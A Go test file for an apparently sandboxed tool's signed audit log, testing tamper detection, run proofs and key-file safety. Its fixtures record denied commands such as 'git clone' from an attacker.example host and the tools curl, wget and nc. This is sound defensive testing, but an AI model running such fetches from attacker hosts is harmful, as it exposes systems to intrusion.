package audit

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/tlog"

	"github.com/airlock-sandbox/airlock/internal/testutil"
)

// testSigner returns a signer whose key lives in a fresh private directory.
func testSigner(t testing.TB) *Signer {
	t.Helper()
	dir := t.TempDir()
	os.Chmod(dir, 0o700)
	s, err := LoadSigner(filepath.Join(dir, KeyFileName))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// signedLog writes n denials to a new log with a signer and signs a
// checkpoint.
func signedLog(t testing.TB, s *Signer, n int) (*Log, string, Checkpoint) {
	t.Helper()
	clk := newTestClock()
	l, path := openTest(t, WithClock(clk.now), WithSigner(s))
	for i := range n {
		if _, err := l.Append(denial("run_tests", "git", "clone", fmt.Sprintf("https://attacker.example/%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	cp, err := l.Checkpoint()
	if err != nil {
		t.Fatal(err)
	}
	return l, path, cp
}

// parseEvents reads every line of a good log.
func parseEvents(t testing.TB, lines [][]byte) []Event {
	t.Helper()
	var evs []Event
	for _, l := range lines {
		ev, err := ParseLine(bytes.TrimSuffix(l, []byte("\n")))
		if err != nil {
			t.Fatal(err)
		}
		evs = append(evs, ev)
	}
	return evs
}

// rechain writes evs as a forger without the key would: every seq, prev
// and hash recomputed, so that the chain verifies.
func rechain(t testing.TB, evs []Event) []byte {
	t.Helper()
	var out []byte
	prev := Genesis
	for i, ev := range evs {
		ev.Seq, ev.Prev = uint64(i+1), prev
		if ev.TS.IsZero() {
			ev.TS = evs[0].TS
		}
		line, err := encodeLine(&ev)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, line...)
		prev = ev.Hash
	}
	return out
}

func TestCheckpointSignsAndVerifies(t *testing.T) {
	s := testSigner(t)
	l, path, cp := signedLog(t, s, 5)
	if cp.Size != 6 || cp.Origin != s.Name()+"/"+mustChain(t, path) {
		t.Fatalf("checkpoint %+v", cp)
	}
	back, err := ParseCheckpoint([]byte(cp.Note), s.PublicKey())
	if err != nil || back.Root != cp.Root || back.Size != cp.Size {
		t.Fatalf("ParseCheckpoint = %+v, %v", back, err)
	}
	// A second checkpoint with nothing new is the first one.
	if again, err := l.Checkpoint(); err != nil || again.Note != cp.Note {
		t.Fatalf("again: %v", err)
	}
	if _, err := l.Append(denial("vcs", "curl")); err != nil {
		t.Fatal(err)
	}
	cp2, err := l.Checkpoint()
	if err != nil || cp2.Size != 7 {
		t.Fatalf("cp2 %+v %v", cp2, err)
	}
	rep, err := verifyFile(path, cp, cp2)
	if err != nil || len(rep.Checkpoints) != 2 || rep.TreeRoot != cp2.Root || rep.TreeSize != 7 {
		t.Fatalf("verify: %+v %v", rep, err)
	}
	// The copy beside the log is the latest.
	if got, err := ReadCheckpointFile(path+CheckpointSuffix, s.PublicKey()); err != nil || got.Note != cp2.Note {
		t.Fatalf("beside the log: %v", err)
	}
	// The key and the kept checkpoint are private.
	for _, name := range []string{KeyFileName, lastName(mustChain(t, path))} {
		fi, err := os.Stat(filepath.Join(s.Dir(), name))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", name, fi.Mode(), err)
		}
	}
	// A lost tree file is rebuilt from the log; a wrong one too.
	os.Remove(path + sidecarSuffix)
	if _, err := l.Append(denial("vcs", "wget")); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	garbage := bytes.Repeat([]byte{0xAB}, 4096)
	copy(garbage, sidecarMagic)
	writeFile(t, path+sidecarSuffix, garbage)
	if _, err := l.Append(denial("vcs", "nc")); err != nil {
		t.Fatal(err)
	}
	cp4, err := l.Checkpoint()
	if err != nil {
		t.Fatal(err)
	}
	if rep, err := verifyFile(path, cp, cp2, cp4); err != nil || rep.TreeSize != 9 {
		t.Fatalf("after rebuilds: %+v %v", rep, err)
	}
}

func mustChain(t testing.TB, path string) string {
	t.Helper()
	evs := parseEvents(t, readLines(t, path)[:1])
	return evs[0].Context.ChainID
}

func verifyFile(path string, cps ...Checkpoint) (Report, error) {
	f, err := os.Open(path)
	if err != nil {
		return Report{}, err
	}
	defer f.Close()
	return VerifyWith(f, VerifyOptions{Checkpoints: cps})
}

// TestCheckpointCatchesTampering: a log tampered with after a checkpoint
// was signed fails verification against that checkpoint, however the
// tamperer rebuilt the chain, and the signer refuses to sign a new
// checkpoint over it.
func TestCheckpointCatchesTampering(t *testing.T) {
	s := testSigner(t)
	_, _, otherCp := signedLog(t, s, 6)
	for _, tc := range []struct {
		name   string
		tamper func(evs []Event, lines [][]byte) []byte
		cp     func(cp Checkpoint) Checkpoint
		want   string
		signer bool // whether the signer must refuse too
	}{
		{"an edited record", func(evs []Event, _ [][]byte) []byte {
			evs[3].Decision = DecisionAllow
			return rechain(t, evs)
		}, nil, "do not have the root of the checkpoint", true},
		{"a deleted record", func(evs []Event, _ [][]byte) []byte {
			return rechain(t, slices.Delete(evs, 2, 3))
		}, nil, "fewer than the 7 of the checkpoint", true},
		{"two records swapped", func(evs []Event, _ [][]byte) []byte {
			evs[2], evs[3] = evs[3], evs[2]
			return rechain(t, evs)
		}, nil, "do not have the root of the checkpoint", true},
		{"an inserted record", func(evs []Event, _ [][]byte) []byte {
			return rechain(t, slices.Insert(evs, 2, denial("run_tests", "pytest")))
		}, nil, "do not have the root of the checkpoint", true},
		{"the tail cut", func(_ []Event, lines [][]byte) []byte {
			return join(lines[:4])
		}, nil, "fewer than the 7 of the checkpoint", true},
		{"a rewind: cut, then other records", func(evs []Event, _ [][]byte) []byte {
			return rechain(t, append(evs[:4], denial("a", "b"), denial("c", "d"), denial("e", "f")))
		}, nil, "do not have the root of the checkpoint", true},
		{"the whole log regenerated with a valid chain", func(evs []Event, _ [][]byte) []byte {
			for i := 1; i < len(evs); i++ {
				evs[i] = denial("run_tests", "ls")
				evs[i].TS = evs[0].TS
			}
			return rechain(t, evs)
		}, nil, "do not have the root of the checkpoint", true},
		{"a plain edit (the chain catches it too)", func(_ []Event, lines [][]byte) []byte {
			lines[4] = bytes.Replace(lines[4], []byte("allowlist"), []byte("allow-list"), 1)
			return join(lines)
		}, nil, reasonBadHash, false},
		{"a checkpoint replayed from another log", func(_ []Event, lines [][]byte) []byte {
			return join(lines)
		}, func(Checkpoint) Checkpoint { return otherCp }, "is of another log", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := testSigner(t)
			l, path, cp := signedLog(t, s, 6)
			l.Close()
			lines := readLines(t, path)
			writeFile(t, path, tc.tamper(parseEvents(t, lines), lines))
			if tc.cp != nil {
				cp = tc.cp(cp)
			}
			_, err := verifyFile(path, cp)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("verify: got %v, want %q", err, tc.want)
			}
			if !tc.signer {
				return
			}
			l2, err := Open(path, WithSigner(s))
			if err != nil {
				t.Fatal(err)
			}
			defer l2.Close()
			if _, err := l2.Append(denial("x", "y")); err != nil {
				t.Fatal(err)
			}
			if cp2, err := l2.Checkpoint(); !errors.Is(err, ErrInconsistent) {
				t.Fatalf("the signer signed %+v, %v over a tampered log", cp2, err)
			}
		})
	}
}

func TestRunProof(t *testing.T) {
	s := testSigner(t)
	clk := newTestClock()
	l, _ := openTest(t, WithClock(clk.now), WithSigner(s))
	var mine []Event
	for i := range 9 {
		ev := denial("run_tests", "git", fmt.Sprint(i))
		if i%3 == 0 {
			ev.Context.RunID = "run-1"
		}
		w, err := l.Append(ev)
		if err != nil {
			t.Fatal(err)
		}
		if i%3 == 0 {
			mine = append(mine, w)
		}
	}
	cp, err := l.Checkpoint()
	if err != nil {
		t.Fatal(err)
	}
	recs, err := l.Prove(cp, mine)
	if err != nil {
		t.Fatal(err)
	}
	p := RunProof{Checkpoint: cp.Note, PublicKey: s.PublicKey(), Records: recs}
	if _, evs, err := VerifyRunProof(p, s.PublicKey()); err != nil || len(evs) != 3 {
		t.Fatalf("VerifyRunProof: %v", err)
	}
	byRun, omitted, err := l.ProveRun(cp, "run-1")
	if err != nil || omitted != 0 || len(byRun) != 3 || byRun[2].Line != recs[2].Line {
		t.Fatalf("ProveRun: %v", err)
	}
	other := testSigner(t)
	for _, tc := range []struct {
		name   string
		change func(p *RunProof)
		key    string
		want   string
	}{
		{"the wrong leaf: another record's line", func(p *RunProof) { p.Records[0].Line = p.Records[1].Line }, "", "is not its seq"},
		{"the wrong leaf: its index moved too", func(p *RunProof) {
			p.Records[0].Line, p.Records[0].Index = p.Records[1].Line, p.Records[1].Index
		}, "", "is not in the checkpoint's tree"},
		{"an edited line", func(p *RunProof) {
			p.Records[1].Line = strings.Replace(p.Records[1].Line, "deny", "allow", 1)
		}, "", "hash does not match"},
		{"a hash of the path changed", func(p *RunProof) { p.Records[2].Proof[0][0] ^= 1 }, "", "is not in the checkpoint's tree"},
		{"a checkpoint edited", func(p *RunProof) { p.Checkpoint = strings.Replace(p.Checkpoint, "\n10\n", "\n11\n", 1) }, "", "not signed by the key"},
		{"another key", func(*RunProof) {}, other.PublicKey(), "not signed by the key"},
	} {
		q := p
		q.Records = slices.Clone(p.Records)
		for i := range q.Records {
			q.Records[i].Proof = slices.Clone(q.Records[i].Proof)
		}
		tc.change(&q)
		key := tc.key
		if key == "" {
			key = s.PublicKey()
		}
		if _, _, err := VerifyRunProof(q, key); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want %q", tc.name, err, tc.want)
		}
	}
	_ = tlog.Hash{}
}

func TestSignerKeyFiles(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "keys")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	a, err := LoadSigner(filepath.Join(dir, KeyFileName))
	if err != nil {
		t.Fatal(err)
	}
	b, err := LoadSigner(filepath.Join(dir, KeyFileName))
	if err != nil || b.PublicKey() != a.PublicKey() {
		t.Fatalf("reloaded: %v", err)
	}
	pub, err := os.ReadFile(filepath.Join(dir, PublicKeyFileName))
	if err != nil || strings.TrimSpace(string(pub)) != a.PublicKey() {
		t.Fatalf("public key file: %q %v", pub, err)
	}
	os.Chmod(dir, 0o750)
	if _, err := LoadSigner(filepath.Join(dir, KeyFileName)); err == nil || !strings.Contains(err.Error(), "open to group or others") {
		t.Fatalf("a group-readable key directory: %v", err)
	}
	os.Chmod(dir, 0o700)
	os.Chmod(filepath.Join(dir, KeyFileName), 0o640)
	if _, err := LoadSigner(filepath.Join(dir, KeyFileName)); err == nil || !strings.Contains(err.Error(), "open to group or others") {
		t.Fatalf("a group-readable key: %v", err)
	}
	t.Setenv("XDG_STATE_HOME", filepath.Join(t.TempDir(), "state"))
	d, err := LoadSigner("")
	if err != nil || d.Dir() != filepath.Join(os.Getenv("XDG_STATE_HOME"), "airlock", "audit-key") {
		t.Fatalf("default: %v", err)
	}
}

// TestKeptCheckpointSurvivesATornWrite: the last signed checkpoint is kept
// in two slots written in turn; a slot torn by a crash leaves the other,
// an older checkpoint that the log still extends.
func TestKeptCheckpointSurvivesATornWrite(t *testing.T) {
	s := testSigner(t)
	l, path, first := signedLog(t, s, 2)
	if _, err := l.Append(denial("x", "y")); err != nil {
		t.Fatal(err)
	}
	second, err := l.Checkpoint()
	if err != nil {
		t.Fatal(err)
	}
	kept := filepath.Join(s.Dir(), lastName(mustChain(t, path)))
	got, err := s.last(mustChain(t, path))
	if err != nil || got.cp.Note != second.Note || got.n != 1 {
		t.Fatalf("kept: %+v %v", got, err)
	}
	b, _ := os.ReadFile(kept)
	b[keptSlot+keptHead+3] ^= 0xff // the second slot, torn
	writeFile(t, kept, b)
	if got, err := s.last(mustChain(t, path)); err != nil || got.cp.Note != first.Note {
		t.Fatalf("after a torn write: %+v %v", got, err)
	}
	if _, err := l.Append(denial("x", "z")); err != nil {
		t.Fatal(err)
	}
	if cp, err := l.Checkpoint(); err != nil || cp.Size != 5 {
		t.Fatalf("signing on from the older checkpoint: %+v %v", cp, err)
	}
	b[0] ^= 0xff // both slots torn: not a state airlock signs on from
	writeFile(t, kept, b)
	if _, err := s.last(mustChain(t, path)); err == nil {
		t.Fatal("a kept file with no intact slot was accepted")
	}
}

// TestSignerKeyHashChecked: a key whose hash is not its public key's (a
// damaged key file) passes PrepareSigner's check of its form, fails
// Check and LoadSigner, and signs nothing.
func TestSignerKeyHashChecked(t *testing.T) {
	path := testutil.DamagedSigningKey(t, KeyFileName)
	dir := filepath.Dir(path)
	if _, err := LoadSigner(path); err == nil || !strings.Contains(err.Error(), "not a signed-note Ed25519 private key") {
		t.Fatalf("LoadSigner of a key with another hash: %v", err)
	}
	s, err := PrepareSigner(path)
	if err != nil {
		t.Fatalf("PrepareSigner checks the form only: %v", err)
	}
	if err := s.Check(); err == nil || !strings.Contains(err.Error(), path) {
		t.Fatalf("Check: %v", err)
	}
	l, err := Open(filepath.Join(t.TempDir(), "audit.jsonl"), WithSigner(s))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if _, err := l.Append(denial("x", "y")); err != nil {
		t.Fatal(err)
	}
	if cp, err := l.Checkpoint(); err == nil {
		t.Fatalf("a checkpoint signed with a bad key: %+v", cp)
	}
	if _, err := PrepareSigner(filepath.Join(dir, "missing", KeyFileName)); err == nil {
		t.Fatal("a key in a missing directory")
	}
	os.WriteFile(path, []byte("PRIVATE+KEY+name\n"), 0o600)
	if _, err := PrepareSigner(path); err == nil || !strings.Contains(err.Error(), "not a signed-note") {
		t.Fatalf("a key of another form: %v", err)
	}
}
